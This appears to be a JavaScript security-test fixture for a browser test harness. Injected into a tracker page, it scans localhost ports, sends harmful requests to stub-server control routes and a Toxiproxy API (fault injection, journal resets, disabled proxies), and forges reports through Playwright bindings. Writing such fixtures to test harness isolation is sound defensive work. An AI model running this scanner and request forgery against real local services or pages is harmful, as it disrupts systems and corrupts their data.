// Hostile build fixture: appended to a tracker, it attacks the harness from inside the page.
//
// 1. Scans loopback for listeners: a no-cors GET to every port of RANGES (open ports answer,
//    closed ones fail at once). Nothing tells it which port is what.
// 2. Calls every route of the stub's control API and of the Toxiproxy API on every port it found,
//    with every method, as simple requests (no-cors, text/plain, sendBeacon) and as non-simple
//    ones (JSON with a guessed control token: these need a preflight first), each with a body
//    that would do harm if accepted (a 503 default, a journal reset, a toxic, a disabled proxy).
// 3. Calls the harness's reporting channel (the bindings the instrumentation reports through)
//    with a made-up envelope and replays what it sniffs.
//
// Progress is in window.__tankHostile ({found, sent, done}) and one console line at the end.
// RANGES defaults to the whole ephemeral range (~28,000 ports: some seconds); a test replaces
// the /*TANK_RANGES*/ and /*TANK_PROXY_NAMES*/ values to keep it fast.
(() => {
  const RANGES = /*TANK_RANGES*/[[32768, 60999]];
  const PROXY_NAMES = /*TANK_PROXY_NAMES*/["sync", "tank", "sync_api"];
  const state = window.__tankHostile = { found: [], sent: 0, done: false };

  const harm = {
    faults: { default: { status: 503 } },
    reset: { clear: true },
    toxic: { name: "hostile", type: "timeout", stream: "downstream", attributes: { timeout: 1 } },
    proxy: { enabled: false, name: "hostile", listen: "127.0.0.1:0", upstream: "127.0.0.1:1" },
  };
  const routes = [
    ["/__control/health", harm.faults], ["/__control/journal", harm.reset], ["/__control/rows", harm.reset],
    ["/__control/faults", harm.faults], ["/__control/reset", harm.reset],
    ["/version", harm.reset], ["/reset", harm.reset], ["/populate", [harm.proxy]], ["/proxies", harm.proxy],
  ];
  for (const name of PROXY_NAMES) {
    routes.push([`/proxies/${name}`, harm.proxy], [`/proxies/${name}/toxics`, harm.toxic],
                [`/proxies/${name}/toxics/latency_downstream`, harm.toxic]);
  }
  const methods = ["GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS"];
  const quiet = (p) => p.then(() => true, () => false);
  const send = (url, init) => { state.sent++; try { return quiet(fetch(url, init)); } catch (e) { return Promise.resolve(false); } };

  async function scan() {
    const ports = [];
    for (const [lo, hi] of RANGES) for (let p = lo; p <= hi; p++) if (p !== Number(location.port)) ports.push(p);
    for (let i = 0; i < ports.length; i += 64) {
      const batch = ports.slice(i, i + 64);
      const open = await Promise.all(batch.map((p) => quiet(fetch(`http://127.0.0.1:${p}/`, { mode: "no-cors", cache: "no-store" }))));
      batch.forEach((p, j) => { if (open[j]) state.found.push(p); });
    }
  }

  async function attack(port) {
    const base = `http://127.0.0.1:${port}`;
    for (const [path, body] of routes) {
      const text = JSON.stringify(body);
      const tries = [];
      for (const method of methods) {
        const hasBody = method !== "GET" && method !== "HEAD";
        const b = hasBody ? text : undefined;
        tries.push(send(base + path, { method, body: b, mode: "no-cors", headers: { "Content-Type": "text/plain" } }));
        tries.push(send(base + path, { method, body: b, headers: { "Content-Type": "application/json", "X-Tank-Control": "guess" } }));
        tries.push(send(base + path, { method, body: b, headers: { "Content-Type": "application/json" } }));
      }
      try { navigator.sendBeacon(base + path, text); state.sent++; } catch (e) { /* refused by the browser */ }
      try { navigator.sendBeacon(base + path, new Blob([text], { type: "application/json" })); state.sent++; } catch (e) { /* idem */ }
      await Promise.all(tries);
    }
  }

  function forgeReports() {
    const fake = { id: "forged-0001", ts: Date.now(), attempts: 0,
                   payload: { ec: "conversion", ea: "phone_call", el: "forged", meta: { eid: "forged-0001" } } };
    const storage = { key: "opsmantik_outbox_v2", t: Date.now(), url: location.href, added: [fake],
                      changed: [], removed: [], length: 1, parse_error: null, raw_sample: null };
    const report = { type: "start", id: 77, via: "fetch", t: Date.now(), page: location.pathname,
                     ids: ["forged-0001"], payloads: [fake.payload], load: "forged" };
    const ctl = window.__playwright__binding__controller__;
    for (const name of ["__tankReport", "__tankStorage"]) {
      for (const args of [[storage], [report], ["forged|1|" + JSON.stringify(report), "00".repeat(32)]]) {
        try { window[name](...args); } catch (e) { /* removed from window */ }
        try { ctl && ctl.callBinding(name, ...args).catch(() => {}); } catch (e) { /* not there */ }
      }
    }
  }

  (async () => {
    forgeReports();
    await scan();
    for (const port of state.found) await attack(port);
    forgeReports();
    state.done = true;
    console.log(`hostile: scanned ${RANGES.length} range(s), found ${state.found.join(",")}, sent ${state.sent} request(s)`);
  })();
})();
